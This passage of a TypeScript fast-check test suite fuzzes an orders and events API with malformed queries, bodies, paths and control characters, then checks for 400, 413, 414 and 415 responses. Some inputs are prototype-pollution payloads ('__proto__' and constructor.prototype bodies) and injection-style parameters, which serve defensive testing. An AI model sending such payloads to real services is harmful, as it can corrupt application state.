  page: fc.oneof(
    fc.constantFrom(
      '0',
      '-1',
      '100001',
      '1.5',
      'abc',
      'NaN',
      'Infinity',
      '-Infinity',
      '1e999',
      '',
      ' ',
      '-0',
      '1;2',
    ),
    fc.integer({ min: 100_001, max: 2 ** 31 }).map(String),
    fc.integer({ min: -(2 ** 31), max: 0 }).map(String),
  ),
  pageSize: fc.oneof(
    fc.constantFrom('0', '501', '-5', '2.5', 'NaN', '9999', '', 'all'),
    fc.integer({ min: 501, max: 2 ** 31 }).map(String),
  ),
  includeDrills: fc.constantFrom('1', '0', 'yes', 'TRUE', '', 'true ', 'on', 'null'),
};
const UNKNOWN_PARAMS = [
  'limit',
  'offset',
  'status[]',
  '__proto__',
  'constructor',
  'sort_by',
  'drop',
  '',
  'q ',
  'id',
  'where',
];

interface QueryFault {
  label: string;
  field: string;
  apply: (q: Query) => Query;
}

function queryFault(known: string[]): fc.Arbitrary<QueryFault> {
  return fc.oneof(
    fc.constantFrom(...known).chain((name) =>
      badParam[name]!.map((v): QueryFault => ({
        label: 'bad_value',
        field: name,
        apply: (q) => [...q.filter(([k]) => k !== name), [name, v]],
      })),
    ),
    fc
      .oneof(
        fc.constantFrom(...UNKNOWN_PARAMS, ...ORDER_PARAMS),
        fc.string({ minLength: 1, maxLength: 10 }).map((s) => `x${s}`),
      )
      .filter((name) => !known.includes(name))
      .chain((name) =>
        INJECTION_VALUES.map((v): QueryFault => ({
          label: 'unknown_param',
          field: name,
          apply: (q) => [...q, [name, v]],
        })),
      ),
    fc.constantFrom(...known).map((name): QueryFault => ({
      label: 'repeated_param',
      field: name,
      apply: (q) => [...q.filter(([k]) => k !== name), [name, 'a'], [name, 'b']],
    })),
    fc
      .tuple(dateArb, dateArb)
      .filter(([a, b]) => a !== b)
      .map(([a, b]): QueryFault => {
        const [from, to] = a > b ? [a, b] : [b, a];
        return {
          label: 'reversed_range',
          field: 'to',
          apply: (q) => [...q.filter(([k]) => k !== 'from' && k !== 'to'), ['from', from], ['to', to]],
        };
      }),
  );
}

/** `URLSearchParams` cannot carry lone surrogates: it turns them into U+FFFD, which is still bad. */
function queryString(q: Query): string {
  const params = new URLSearchParams();
  for (const [k, v] of q) params.append(k, v);
  return params.toString();
}

function queryRequests(route: string, valid: fc.Arbitrary<Query>, known: string[]): fc.Arbitrary<BadRequest> {
  return fc
    .tuple(valid, fc.array(queryFault(known), { minLength: 1, maxLength: 3 }))
    .map(([base, faults]): BadRequest => {
      const q = faults.reduce((acc, f) => f.apply(acc), base);
      const fields = new Set(faults.map((f) => f.field));
      return {
        kind: `query ${route}`,
        path: `${route}?${queryString(q)}`,
        related: (field) => fields.has(field) || field === '(root)',
      };
    });
}

/** Percent-encodes a path segment; a lone surrogate is encoded as its UTF-8 replacement. */
function encodeSegment(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
  }
}

const pathIdRequest: fc.Arbitrary<BadRequest> = fc
  .tuple(
    fc.constantFrom('/api/orders/', '/api/shipments/', '/api/lookup/'),
    fc.oneof(
      // Over the router's param limit (1024 characters) the answer is 414.
      badId(128, 4000).map((id) => ({ raw: encodeSegment(id), long: id.length > 1000 })),
      fc
        .constantFrom('%', '%zz', '%E0%A4%A', 'abc%', '%C0%AF', '%ED%A0%80')
        .map((raw) => ({ raw, long: false })),
    ),
  )
  .map(([route, { raw, long }]) => ({
    kind: `path ${route.split('/')[2]}`,
    path: `${route}${raw}`,
    statuses: long ? [400, 414] : [400],
    related: (field: string) => field === 'id' || field === '(url)',
  }));

// ------------------------------------------------------------------------------------------------
// Bodies that are broken as a whole
// ------------------------------------------------------------------------------------------------

const RAW_TOKENS = [
  'NaN',
  'Infinity',
  '-Infinity',
  'undefined',
  '0x1F',
  '01',
  '.5',
  '+1',
  '1.',
  'True',
  'None',
  "'single'",
];

const rawBodyRequest: fc.Arbitrary<BadRequest> = fc
  .tuple(fc.constantFrom('/api/events', '/api/events/batch'), validEvent, fc.nat(1000))
  .chain(([route, event, n]) => {
    const json = JSON.stringify(route === '/api/events' ? event : { events: [event] });
    const malformed = fc.oneof(
      fc.constant(json.slice(0, n % json.length)),
      fc.constantFrom('}', ',{}', 'x', ' garbage', '\u0000', '[]').map((tail) => json + tail),
      fc.constant(json.replace('"', "'")),
      fc.constant(json.replace(/}$/, ',}')),
      fc.constant(`/* comment */${json}`),
      fc
        .constantFrom(...RAW_TOKENS)
        .map((token) => json.replace(/"specversion":"1\.0"/, `"specversion":${token}`)),
      fc.constant(json.replace(/^\{/, '{"__proto__":{"polluted":true},')),
      fc.constant(json.replace(/^\{/, '{"constructor":{"prototype":{"polluted":true}},')),
    );
    const bad: fc.Arbitrary<BadRequest>[] = [
      malformed.map((body) => ({
        kind: 'malformed_json',
        path: route,
        init: postJson(body),
        statuses: [400],
      })),
      fc
        .constantFrom(
          'text/plain',
          'text/html',
          'application/xml',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/octet-stream',
          'application/jsonx',
          // (application/cloudevents+json is supported: CloudEvents structured mode, see pipeline.test.ts)
          'json',
          '',
        )
        .map((ct) => ({
          kind: 'content_type',
          path: route,
          init: { method: 'POST', body: new Blob([json]), headers: { 'content-type': ct } },
          statuses: [415],
        })),
      fc
        .constantFrom('null', '0', '-1', '"event"', 'true', '[]', `[${json}]`, '{}', '[[[[[[[[]]]]]]]]')
        .map((body) => ({ kind: 'not_an_object', path: route, init: postJson(body) })),
    ];
    if (route === '/api/events/batch') {
      const events = [event, event];
      bad.push(
        fc
          .constantFrom<unknown>(
            {},
            { events: null },
            { events: {} },
            { events: 'x' },
            { events: [] },
            { events, extra: true },
            { event },
            { Events: events },
            { events: Array.from({ length: 1001 }, () => event) },
          )
          .map((body) => ({
            kind: 'batch_shape',
            path: route,
            init: postJson(JSON.stringify(body)),
            related: (field: string) => ['(root)', 'events', 'extra', 'event', 'Events'].includes(field),
          })),
      );
    }
    return fc.oneof(...bad);
  });

// ------------------------------------------------------------------------------------------------
// Properties
// ------------------------------------------------------------------------------------------------

const many = (arb: fc.Arbitrary<BadRequest>) => fc.array(arb, { minLength: PARALLEL, maxLength: PARALLEL });

describe('bad input at the API', () => {
  it('generates valid events that the contract accepts (so every rejection below is the fault)', () => {
    fc.assert(
      fc.property(validEvent, (event) => {
        const r = validateEvent(event);
        if (!r.ok) throw new Error(JSON.stringify(r.issues));
      }),
      { numRuns: 500 },
    );
  });

  it('rejects single events broken by 1..3 faults, naming the faulty field', async () => {
    await fc.assert(
      fc.asyncProperty(
        many(
          faultyEvent.map(({ body, applied }) => ({
            kind: 'event',
            path: '/api/events',
            init: postJson(JSON.stringify(body)),
            related: relatedTo(applied),
          })),
        ),
        sendAll,
      ),
      { numRuns: 600 },
    );
  });

  it('rejects a batch with bad events among good ones, naming the first bad index', async () => {
    await fc.assert(
      fc.asyncProperty(
        many(
          fc
            .tuple(
              fc.array(validEvent, { minLength: 0, maxLength: 12 }),
              faultyEventInBatch,
              fc.array(
                fc.oneof(
                  validEvent,
                  faultyEventInBatch.map((f) => f.body),
                ),
                { maxLength: 6 },
              ),
            )
            .map(([before, bad, after]): BadRequest => {
              const events = [...before, bad.body, ...after];
              return {
                kind: 'batch',
                path: '/api/events/batch',
                init: postJson(JSON.stringify({ events })),
                related: relatedTo(bad.applied),
                index: events.length > 1 ? before.length : undefined,
              };
            }),
        ),
        sendAll,
      ),
      { numRuns: 150 },
    );
  });

  it('rejects malformed JSON, wrong content types and bodies of the wrong shape', async () => {
    await fc.assert(fc.asyncProperty(many(rawBodyRequest), sendAll), { numRuns: 150 });
  });

  it('rejects bodies over the size limit with 413', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('/api/events', '/api/events/batch'),
        fc.integer({ min: BODY_LIMIT + 1, max: BODY_LIMIT + 1024 * 1024 }),
        fc.boolean(),
        async (route, size, chunked) => {
          const body = `{"events":["${'x'.repeat(size - 15)}"]}`;
          const init: RequestInit = chunked
            ? ({
                method: 'POST',
                body: new ReadableStream({
                  start(controller) {
                    const bytes = new TextEncoder().encode(body);
                    for (let i = 0; i < bytes.length; i += 256 * 1024)
                      controller.enqueue(bytes.slice(i, i + 256 * 1024));
                    controller.close();
                  },
                }),
                duplex: 'half',
              } as RequestInit)
            : postJson(body);
          await sendBad({ kind: 'oversize', path: route, init, statuses: [413] });
        },
      ),
      { numRuns: 10 },
    );
  });

  it('rejects bad query strings on /api/orders, /api/kpi/summary and /api/kpi/daily', async () => {
    await fc.assert(
      fc.asyncProperty(
        many(
          fc.oneof(
            queryRequests('/api/orders', validOrderQuery, ORDER_PARAMS),
            queryRequests('/api/kpi/summary', validKpiQuery, KPI_PARAMS),
            queryRequests('/api/kpi/daily', validKpiQuery, KPI_PARAMS),
          ),
        ),
        sendAll,
      ),
      { numRuns: 400 },
    );
  });

  it('rejects bad ids on /api/orders/:id, /api/shipments/:id and /api/lookup/:id', async () => {
    await fc.assert(fc.asyncProperty(many(pathIdRequest), sendAll), { numRuns: 250 });
  });

  it('let nothing reach Kafka or the audit log', async () => {
    expect(stats.generated).toBeGreaterThan(10_000);
    expect(stats.serverErrors).toBe(0);
    expect(stats.accepted).toBe(0);
    expect(await highWaterMarks()).toEqual(marksBefore);
    expect(await audited()).toEqual({ requests: 0, events: 0 });
  });

  it('accepts good requests (the control: the checks above can fail)', async () => {
    // Valid and acceptable: an order's or a shipment's later events need its creation first
    // (order_exists, shipment_exists), and the importers' sources are reserved; random ones would
    // be refused for that, not for their form.
    const acceptable = validEvent.filter(
      (e) => String(e.type).endsWith('.created.v1') && apiSourceIssue(String(e.source), null) === null,
    );
    const [a, b, c] = fc.sample(acceptable, { numRuns: 3, seed: 42 }) as [Json, Json, Json];
    expect((await d.api('/api/events', postJson(JSON.stringify(a)))).status).toBe(202);
    expect((await d.api('/api/events/batch', postJson(JSON.stringify({ events: [b, c] })))).status).toBe(202);
    for (const path of [
      '/api/orders?status=created&from=2024-01-01&to=2024-01-31&q=o-1&sort=status&order=asc&page=2&pageSize=10',
      '/api/kpi/summary?from=2024-01-01&to=2024-01-01&includeDrills=true',
      '/api/kpi/daily',
    ]) {
      expect((await d.api(path)).status, path).toBe(200);
    }
    expect((await d.api(`/api/orders/${'o'.repeat(128)}`)).status).toBe(404);
    const after = await highWaterMarks();
    const total = (m: Record<string, number>) => Object.values(m).reduce((x, y) => x + y, 0);
    expect(total(after) - total(marksBefore)).toBe(3);
    expect(await audited()).toEqual({ requests: 2, events: 3 }); // one single, one batch of 2
  });
});

// ------------------------------------------------------------------------------------------------
// Regressions: one focused check per bug the properties found
// ------------------------------------------------------------------------------------------------

describe('bad input regressions', () => {
  const event = () => ({
    specversion: '1.0',
    id: randomUUID(),
    source: 'test',
    type: 'sct.order.created.v1',
    subject: 'o-reg',
    time: '2024-03-01T12:00:00Z',
    data: {
      customerId: 'c-1',
      warehouseId: 'w-1',
      siteTimeZone: 'UTC',
      promisedDate: '2024-03-10',
      lines: [{ sku: 'A', quantity: 1 }],
    },
  });
  const issuesOf = async (res: Response) => ((await res.json()) as ApiError).issues ?? [];
  const inject = (body: unknown, headers: Record<string, string> = {}) =>
    d.api('/api/events', postJson(JSON.stringify(body), headers));

  it('rejects unknown attributes inside data and order lines (they were silently dropped)', async () => {
    const e = event();
    const res = await inject({ ...e, data: { ...e.data, carier: 'UPS' } });
    expect(res.status).toBe(400);
    expect(await issuesOf(res)).toEqual([
      expect.objectContaining({ field: 'data.carier', rule: 'unrecognized_keys' }),
    ]);
    const res2 = await inject({ ...e, data: { ...e.data, lines: [{ sku: 'A', quantity: 1, price: 3 }] } });
    expect(await issuesOf(res2)).toEqual([
      expect.objectContaining({ field: 'data.lines.0.price', rule: 'unrecognized_keys' }),
    ]);
  });

  it('rejects instants and days PostgreSQL cannot store (year 0 or 10000 in UTC or in a site zone)', async () => {
    // 0001-01-01T00:00Z is 0000-12-31 in Sao Paulo; 9999-12-31T23:00Z is 10000-01-01 in Kiritimati.
    for (const time of [
      '0000-01-01T00:00:00Z',
      '0001-01-01T00:00:00+14:00',
      '0001-01-01T00:00:00Z',
      '9999-12-31T23:00:00Z',
    ]) {
      const res = await inject({ ...event(), time });
      expect(res.status, time).toBe(400);
      expect(await issuesOf(res)).toEqual([expect.objectContaining({ field: 'time', rule: 'year_range' })]);
    }
    const e = event();
    const res = await inject({ ...e, data: { ...e.data, promisedDate: '0000-12-31' } });
    expect(await issuesOf(res)).toEqual([
      expect.objectContaining({ field: 'data.promisedDate', rule: 'year_range' }),
    ]);
  });

  it('rejects lone surrogates and C1 control characters in free text', async () => {
    for (const source of ['a\ud800b', 'a\udc00', 'a\u0085b', 'a\u009bb']) {
      const res = await inject({ ...event(), source });
      expect(res.status, JSON.stringify(source)).toBe(400);
      expect(await issuesOf(res)).toEqual([expect.objectContaining({ field: 'source' })]);
    }
    expect(
      (await inject({ ...event(), source: 'emoji 😀, accents é, CJK 配送, tab\tnewline\n' })).status,
    ).toBe(202);
  });

  it('answers a non-JSON content type with 415, not a validation error on a string', async () => {
    const res = await d.api(
      '/api/events',
      postJson(JSON.stringify(event()), { 'content-type': 'text/plain' }),
    );
    expect(res.status).toBe(415);
    expect(await res.json()).toMatchObject({
      error: 'unsupported_media_type',
      issues: [{ field: '(body)' }],
    });
  });

  it('answers malformed %-encoding in a path with an ApiError that has issues', async () => {
    const res = await d.api('/api/orders/%E0%A4%A');
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({
      error: 'bad_request',
      issues: [{ field: '(url)', rule: 'bad_request' }],
    });
  });

  it('looks up ids of 101..128 characters (the router cut them at 100 with a 414)', async () => {
    expect((await d.api(`/api/orders/${'a'.repeat(101)}`)).status).toBe(404);
    expect((await d.api(`/api/lookup/${'a'.repeat(128)}`)).status).toBe(404);
    const res = await d.api(`/api/shipments/${'a'.repeat(129)}`);
    expect(res.status).toBe(400);
    expect(await issuesOf(res)).toEqual([expect.objectContaining({ field: 'id', rule: 'too_big' })]);
  });

  it('rejects a reversed day range instead of answering "no data"', async () => {
    for (const route of ['/api/orders', '/api/kpi/summary', '/api/kpi/daily']) {
      const res = await d.api(`${route}?from=2024-05-01&to=2024-01-01`);
      expect(res.status, route).toBe(400);
      expect(await issuesOf(res)).toEqual([expect.objectContaining({ field: 'to', rule: 'date_range' })]);
    }
  });
});

describe('control characters in request text (QA: 500s, and a re-drive done without its audit row)', () => {
  const run = randomUUID();
  const key = { sourceTopic: 'sct.orders', sourcePartition: 0, sourceOffset: '0' };
  const requests: [string, string, RequestInit | undefined, string][] = [
    [
      're-drive reason',
      '/api/dead-letters/redrive',
      postJson(JSON.stringify({ keys: [key], reason: 'fixed\u0000' })),
      'reason',
    ],
    [
      'login username',
      '/api/auth/login',
      postJson(JSON.stringify({ username: 'qa\u0000', password: 'x' })),
      'username',
    ],
    ['audit operator', '/api/audit?operator=a%00b', undefined, 'operator'],
    ['audit export operator', '/api/audit/export.csv?operator=a%00b', undefined, 'operator'],
    ['drill note', `/api/drills/runs/${run}/note`, postJson(JSON.stringify({ note: 'a\u0000b' })), 'note'],
    [
      'drill start note',
      '/api/drills/runs',
      postJson(JSON.stringify({ scenarioId: 'carrier-delay-wave', note: 'why\u0000' })),
      'note',
    ],
    ['dead-letter type filter', '/api/dead-letters?type=a%07b', undefined, 'type'],
  ];

  it.each(requests)(
    '%s: 400 naming the field and the text rule, nothing done',
    async (_, path, init, field) => {
      const before = await audited();
      const res = await d.api(path, init);
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toMatch(/application\/json/);
      const body = (await res.json()) as ApiError;
      expect(body.issues).toEqual([
        {
          field,
          rule: 'format:regex',
          message: 'must not contain control characters or unpaired surrogates',
        },
      ]);
      expect(await audited()).toEqual(before);
    },
  );
});

describe('QA: fields named, bodiless drill commands, drill notes kept', () => {
  it('names each unknown query key as the field, not (root)', async () => {
    const res = await d.api('/api/orders?limit=1&foo=2');
    expect(res.status).toBe(400);
    expect(((await res.json()) as ApiError).issues).toEqual([
      expect.objectContaining({ field: 'limit', rule: 'unrecognized_keys' }),
      expect.objectContaining({ field: 'foo', rule: 'unrecognized_keys' }),
    ]);
  });

  it('refuses an event time far in the future at the API, naming time', async () => {
    const res = await d.api(
      '/api/events',
      postJson(
        JSON.stringify({
          specversion: '1.0',
          id: randomUUID(),
          source: 'test',
          type: 'sct.order.approved.v1',
          subject: 'o-future',
          time: '9999-12-30T00:00:00Z',
          data: {},
        }),
      ),
    );
    expect(res.status).toBe(400);
    expect(((await res.json()) as ApiError).issues).toEqual([
      expect.objectContaining({ field: 'time', rule: 'not_in_future' }),
    ]);
  });

  it('takes pause/resume/stop without a body, refuses a blank note and keeps every note in the report', async () => {
    const started = await d.api(
      '/api/drills/runs',
      postJson(JSON.stringify({ scenarioId: 'carrier-delay-wave', note: 'first look' })),
    );
    expect(started.status, await started.clone().text()).toBe(202);
    const { id } = (await started.json()) as { id: string };
    const pause = await d.api(`/api/drills/runs/${id}/pause`, { method: 'POST' });
    // 200, or 409 when the run already ended: never a 400 about a missing body.
    expect([200, 409], await pause.clone().text()).toContain(pause.status);
    const stop = await d.api(`/api/drills/runs/${id}/stop`, { method: 'POST' });
    expect([200, 409], await stop.clone().text()).toContain(stop.status);

    const note = (text: string) =>
      d.api(`/api/drills/runs/${id}/note`, postJson(JSON.stringify({ note: text })));
    expect((await note('first note')).status).toBe(200);
    const blank = await note('   ');
    expect(blank.status).toBe(400);
    expect(((await blank.json()) as ApiError).issues).toEqual([expect.objectContaining({ field: 'note' })]);
    expect((await note('second note')).status).toBe(200);
    const report = (await (await d.api(`/api/drills/runs/${id}/report`)).json()) as {
      run: { note: string | null };
      timeline: { kind: string; operator: string | null; detail: string | null; at: string }[];
    };
    expect(report.run.note).toBe('second note');
    expect(report.timeline.find((t) => t.kind === 'started')!.detail).toContain('note: first look');
    expect(report.timeline.filter((t) => t.kind === 'note').map((t) => t.detail)).toEqual([
      'first note',
      'second note',
    ]);
    expect(report.timeline.find((t) => t.kind === 'note')!.operator).toBeTruthy();
  });
});
